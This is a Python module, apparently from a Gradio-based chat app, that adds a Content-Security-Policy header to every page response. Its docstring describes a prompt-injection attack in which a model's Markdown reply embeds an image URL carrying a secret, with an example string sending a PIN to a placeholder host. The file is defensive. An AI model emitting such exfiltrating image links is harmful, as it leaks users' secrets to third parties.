"""The chat page's Content-Security-Policy: the page loads no image or media named by a message
from another origin.

A model's reply is shown as Markdown: "![x](http://host/p.png?secret=PIN)" made the browser fetch
that URL as soon as the chat opened, carrying what a prompt injection put in it to any host. The
page shows Markdown images as links (view.images_as_links) and HTML in a message as typed; this
policy is the second guard, for whatever else a message might get the page to load. Gradio's own
page needs nothing from elsewhere for images: its icons are inline SVG, the favicon and uploaded
files are served here, and some of its components draw from data: and blob: URLs.

``page_csp`` wraps the page's ASGI app (the Mount of gr.mount_gradio_app): each response gets
this policy as its Content-Security-Policy; the server's guard (engine/api/security.py,
add_security_headers) adds ``frame-ancestors 'none'`` to the same header. A response that set a
policy of its own keeps it, with ours before it.
"""

from __future__ import annotations

PAGE_CSP = "img-src 'self' data: blob:; media-src 'self' data: blob:"


def page_csp(app):
    """``app`` (an ASGI app: the page's) with PAGE_CSP on every HTTP response."""

    async def with_policy(scope, receive, send) -> None:
        if scope["type"] != "http":
            await app(scope, receive, send)
            return

        async def send_with_policy(message) -> None:
            if message["type"] == "http.response.start":
                headers = [
                    (k, v)
                    for k, v in message.get("headers", [])
                    if k.lower() != b"content-security-policy"
                ]
                theirs = [
                    v.decode("latin-1")
                    for k, v in message.get("headers", [])
                    if k.lower() == b"content-security-policy"
                ]
                policy = "; ".join([PAGE_CSP, *theirs])
                message = {
                    **message,
                    "headers": [*headers, (b"content-security-policy", policy.encode("latin-1"))],
                }
            await send(message)

        await app(scope, receive, send_with_policy)

    return with_policy
